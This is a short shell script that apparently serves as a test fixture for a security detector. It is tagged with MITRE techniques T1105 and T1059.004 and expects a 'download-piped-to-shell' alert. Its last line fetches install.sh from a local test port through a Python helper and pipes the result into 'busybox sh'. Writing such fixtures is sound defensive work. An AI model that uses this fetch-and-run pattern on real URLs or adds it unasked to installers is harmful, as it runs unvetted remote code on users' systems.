#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: curl-pipe-shell installers aimed at busybox-based CI images (Alpine, distroless debug images), where the only shell is busybox's applet: `URL fetch | busybox sh`
# expect: download-piped-to-shell ^busybox$
# exec-borne: yes
#
# The shell is busybox's applet, started as `busybox sh`: argv[0] is
# busybox, the applet's name is its first argument.
set -u

BB=$(command -v busybox) || { echo "busybox not installed" >&2; exit 77; }

fetch_to_stdout() {
	python3 - "$1" <<'PY'
import sys
import urllib.request

with urllib.request.urlopen(sys.argv[1], timeout=10) as resp:
    sys.stdout.buffer.write(resp.read())
PY
}

fetch_to_stdout "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh" | "$BB" sh
